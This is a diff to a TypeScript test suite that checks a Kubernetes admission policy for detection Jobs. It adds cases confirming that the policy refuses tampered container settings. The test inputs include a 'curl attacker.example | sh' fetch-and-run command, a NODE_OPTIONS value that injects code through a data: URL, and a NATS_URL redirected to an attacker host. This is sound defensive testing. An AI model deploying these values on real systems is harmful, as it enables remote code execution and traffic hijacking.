@@ -422,6 +422,18 @@ describe("the Inspection CRD on a real API server", () => {
       withContainer({}, { command: ["sh", "-c", "curl -s https://attacker.example | sh"] }),
       "detection Jobs run the image's entrypoint with the args [inference] only: another command or args would run anything the image holds",
     );
+    // Node reads options from the environment: --import of a data: URL runs any code as the entrypoint.
+    const envRule = "detection Jobs' containers have the environment the chart renders and no other";
+    await refused(
+      "NODE_OPTIONS",
+      withContainer({}, { env: [...container.env!, { name: "NODE_OPTIONS", value: "--import=data:text/javascript,process.exit(3)" }] }),
+      envRule,
+    );
+    await refused(
+      "another NATS",
+      withContainer({}, { env: container.env!.map((e) => (e.name === "NATS_URL" ? { ...e, value: "nats://attacker.example:4222" } : e)) }),
+      envRule,
+    );
     await refused(
       "an init container",
       { initContainers: [{ name: "setup", image: container.image, command: ["sh", "-c", "id"] }] },
